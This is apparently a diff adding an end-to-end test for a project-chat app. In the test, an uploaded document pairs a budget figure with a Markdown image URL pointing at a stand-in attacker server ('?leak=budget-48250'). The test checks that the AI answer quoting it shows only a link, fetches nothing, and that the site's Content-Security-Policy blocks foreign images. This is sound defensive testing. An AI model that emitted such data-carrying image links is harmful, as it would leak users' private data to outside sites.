@@ -1,0 +1,121 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Browser, ConsoleMessage, Request } from "playwright-core";
+import { addProject, waitCompleted } from "../../packages/functions/src/api/project-chat.testing";
+import { authEmulatorHost, call, signedInUser, type TestUser } from "@quorum/local/testing";
+import { launchBrowser, openApp, signIn, webUrl, type AppPage } from "../shell/browser";
+
+/**
+ * A document tries to exfiltrate project data: it holds a budget figure next to a
+ * Markdown image whose URL would carry that figure to another site. A person
+ * uploads it, asks the project chat about the budget, and the answer quotes the
+ * passage; the browser must not fetch the image (it shows as a link with its full
+ * URL), must talk to no origin but the app's own (site, identity provider, upload
+ * bucket), and the site's Content-Security-Policy must stop such an image even if
+ * one rendered.
+ */
+
+/** Stands in for the attacker's site, on another loopback address: it only counts what reaches it. */
+async function startCollector() {
+  const hits: string[] = [];
+  const server: Server = createServer((req, res) => {
+    hits.push(req.url ?? "");
+    res.writeHead(200, { "content-type": "image/png" }).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.2", resolve));
+  const origin = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
+  return { origin, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+}
+
+describe("an answer quoting a document's Markdown image", () => {
+  let browser: Browser;
+  let app: AppPage;
+  let user: TestUser;
+  let projectId: number;
+  let collector: Awaited<ReturnType<typeof startCollector>>;
+  let pixelUrl: string;
+  const requests: string[] = [];
+  const cspViolations: string[] = [];
+
+  beforeAll(async () => {
+    collector = await startCollector();
+    pixelUrl = `${collector.origin}/pixel.png?leak=budget-48250`;
+    user = await signedInUser();
+    projectId = await addProject(user, { name: "Harbor Expansion" });
+    browser = await launchBrowser();
+    app = await openApp(browser, "/");
+    app.page.context().on("request", (request: Request) => requests.push(request.url()));
+    app.page.on("console", (message: ConsoleMessage) => {
+      if (message.text().includes("Content Security Policy")) cspViolations.push(message.text());
+    });
+  }, 240_000);
+  afterAll(async () => {
+    await app?.close();
+    await browser?.close();
+    await collector?.close();
+  });
+
+  it("signs in", { timeout: 60_000 }, async () => {
+    await signIn(app.page, user.email, user.password);
+  });
+
+  it("uploads the document through the site", { timeout: 120_000 }, async () => {
+    const { page } = app;
+    await page.goto(new URL(`/projects/${projectId}/upload`, webUrl()).href);
+    await page.getByRole("radio", { name: "Contracts" }).click();
+    const text = `Budget status report.\nThe approved budget is $48,250 for phase one.\n![status](${pixelUrl})\n`;
+    await page
+      .getByTestId("document-input")
+      .setInputFiles({ name: "budget-status.txt", mimeType: "text/plain", buffer: Buffer.from(text) });
+    await page.getByTestId("upload-success").waitFor({ timeout: 30_000 });
+    const listed = await call(user, "GET", `/api/projects/${projectId}/documents`);
+    await waitCompleted(
+      user,
+      projectId,
+      (listed.body.documents as { id: number }[]).map((d) => d.id),
+    );
+  });
+
+  it("shows the quoted image as a link with its full URL and never fetches it", { timeout: 90_000 }, async () => {
+    const { page } = app;
+    await page.goto(new URL(`/projects/${projectId}/chat`, webUrl()).href);
+    await page.getByPlaceholder("Ask about project documents, quotes, requirements...").fill("What is the approved budget status?");
+    await page.getByRole("button", { name: "Send message" }).click();
+    const answer = page.getByTestId("ai-message").first();
+    await answer.getByText("Offline model").waitFor({ timeout: 30_000 });
+    await answer.getByText(/approved budget is \$48,250/).waitFor();
+
+    const image = answer.getByTestId("external-image");
+    expect(await image.getAttribute("href")).toBe(pixelUrl);
+    expect(await image.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(await image.textContent()).toContain(pixelUrl);
+    expect(await answer.locator("img").count()).toBe(0);
+    // A lazy image would load on scroll: give one the chance to.
+    await image.scrollIntoViewIfNeeded();
+    await page.waitForTimeout(500);
+
+    expect(collector.hits).toEqual([]);
+    // The app's own origins: the site (and its API), the identity provider, the upload bucket.
+    const allowed = new Set([new URL(webUrl()).origin, `http://${authEmulatorHost()}`, new URL(process.env.S3_PUBLIC_ENDPOINT!).origin]);
+    expect(requests.filter((url) => !allowed.has(new URL(url).origin))).toEqual([]);
+    expect(cspViolations).toEqual([]);
+    // With SHOTS_DIR set, a picture of the answer for people reviewing the look.
+    if (process.env.SHOTS_DIR) await answer.screenshot({ path: join(process.env.SHOTS_DIR, "answer-external-image.png") });
+  });
+
+  it("the Content-Security-Policy blocks a foreign image even if one were rendered", async () => {
+    const { page } = app;
+    // A string, not a function: this file is type-checked without the DOM library.
+    const blocked = await page.evaluate(`new Promise((resolve) => {
+      document.addEventListener("securitypolicyviolation", (e) => resolve(e.violatedDirective), { once: true });
+      const img = document.createElement("img");
+      img.src = ${JSON.stringify(`${collector.origin}/backstop.png`)};
+      document.body.append(img);
+    })`);
+    expect(blocked).toBe("img-src");
+    await page.waitForTimeout(300);
+    expect(collector.hits).toEqual([]);
+  });
+});
